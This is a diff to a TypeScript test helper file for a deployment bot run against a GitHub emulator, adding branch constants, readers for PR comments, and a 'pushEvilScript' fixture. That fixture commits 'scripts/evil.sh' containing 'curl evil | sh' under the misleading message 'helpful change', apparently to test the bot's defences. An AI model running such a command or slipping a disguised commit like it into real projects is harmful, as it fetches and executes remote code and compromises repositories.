@@ -2,7 +2,7 @@
 import { readFileSync } from 'node:fs';
 import { Octokit } from '@octokit/rest';
 import { compile } from '../../../constructs/compile.js';
-import { CHECK_HEALTH, CHECK_VERIFY } from '../../../constructs/conventions.js';
+import { CHECK_HEALTH, CHECK_VERIFY, rollbackBranch, stageBranch } from '../../../constructs/conventions.js';
 import { startEmulator, type Emulator, type EmulatorOptions } from '../../../tools/emulator/index.js';
 import { reconcile, type RolloutReport } from '../../../app/bot/reconcile.js';
 import { botFromSettings, type BotSettings } from '../../../app/bot/setup.js';
@@ -214,3 +214,29 @@ export async function push(
 
 export const headOf = async (client: Octokit, branch: string): Promise<string> =>
   (await client.rest.git.getRef({ owner: OWNER, repo: REPO, ref: `heads/${branch}` })).data.object.sha;
+
+/** owner and repo of the seeded repository, to spread into Octokit calls. */
+export const REPO_REF = { owner: OWNER, repo: REPO };
+/** The branches of INTENT (shop/checkout, live at internal): its next stage's, and its rollback's. */
+export const STAGE = stageBranch('shop', 'checkout', 'one-percent');
+export const ROLLBACK = rollbackBranch('shop', 'checkout');
+
+/** The bodies of the comments on #n, as CI reads them. */
+export async function commentBodies(w: World, n: number): Promise<string[]> {
+  return (await w.ci.rest.issues.listComments({ ...REPO_REF, issue_number: n })).data.map((c) => c.body ?? '');
+}
+
+/** PR #n, as CI reads it. */
+export async function pullOf(w: World, n: number) {
+  return (await w.ci.rest.pulls.get({ ...REPO_REF, pull_number: n })).data;
+}
+
+/** alice (a person with write access) pushes a commit adding scripts/evil.sh onto `branch`. */
+export async function pushEvilScript(w: World, branch: string): Promise<string> {
+  return push(w.person, {
+    parent: await headOf(w.person, branch),
+    files: { 'scripts/evil.sh': { content: 'curl evil | sh\n' } },
+    message: 'helpful change',
+    branch,
+  });
+}
